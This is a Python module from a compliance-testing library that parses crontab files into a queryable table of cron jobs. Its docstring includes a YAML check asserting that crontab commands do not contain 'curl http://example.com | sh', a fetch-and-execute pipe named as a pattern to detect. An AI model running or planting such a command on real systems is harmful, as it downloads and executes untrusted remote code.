"""The ``crontab`` resource: a user's crontab, or a system crontab file, as a filter table."""

from __future__ import annotations

from inspecpy.errors import ResourceSkipped
from inspecpy.resources.filtering import Column, FilterTable
from inspecpy.resources.reading import read_required

_SPECIAL = {"@reboot": ["@reboot"] * 5, "@yearly": ["0", "0", "1", "1", "*"], "@annually": ["0", "0", "1", "1", "*"],
            "@monthly": ["0", "0", "1", "*", "*"], "@weekly": ["0", "0", "*", "*", "0"],
            "@daily": ["0", "0", "*", "*", "*"], "@midnight": ["0", "0", "*", "*", "*"],
            "@hourly": ["0", "*", "*", "*", "*"]}


def parse_crontab(text: str, system: bool = False) -> list[dict]:
    """Cron lines → rows; a *system* crontab (``/etc/crontab``, ``cron.d``) has a user column."""
    rows = []
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        first = line.split(None, 1)[0]
        if "=" in first and not first.startswith("@"):
            continue  # an environment assignment such as SHELL=/bin/sh
        if first in _SPECIAL:
            times, rest = _SPECIAL[first], (line.split(None, 1)[1:] or [""])[0]
        else:
            parts = line.split(None, 5)
            if len(parts) < 6:
                continue
            times, rest = parts[:5], parts[5]
        user = None
        if system:  # the user field ends at any blank: Debian's /etc/crontab has "root<TAB>cd / && …"
            user, rest = (rest.split(None, 1) + [""])[:2]
        rows.append({"minute": times[0], "hour": times[1], "day": times[2], "month": times[3],
                     "weekday": times[4], "user": user, "command": rest.strip()})
    return rows


class Crontab(FilterTable):
    """Cron jobs: ``crontab()`` (the login user's), ``crontab("alice")`` or ``crontab(path="/etc/crontab")``.

    Python::

        describe(crontab("root").commands).should.include("/usr/sbin/logrotate /etc/logrotate.conf")
        describe(crontab(path="/etc/crontab").where(user="root")).should.exist()

    YAML::

        - crontab: {path: /etc/crontab}
          its: {commands: {should_not: {include: "curl http://example.com | sh"}}}
    """

    name = "crontab"

    def __init__(self, user: str | None = None, path: str | None = None):
        super().__init__()
        self.user = user
        self.path = path

    @property
    def resource_id(self) -> str:
        return self.path or self.user or ""

    def load_rows(self) -> list[dict]:
        if self.path:
            return parse_crontab(read_required(self.target, self.path), system=True)
        result = self.target.run("crontab -l -u {}", self.user) if self.user else self.target.run("crontab -l")
        if result.exit_status == 127:
            raise ResourceSkipped("crontab: the crontab command is not installed on the target")
        rows = parse_crontab(result.stdout) if result.exit_status == 0 else []  # 1: no crontab
        for row in rows:
            row["user"] = self.user
        return rows

    minutes = Column("minute")
    hours = Column("hour")
    days = Column("day")
    months = Column("month")
    weekdays = Column("weekday")
    users = Column("user")
    commands = Column("command")
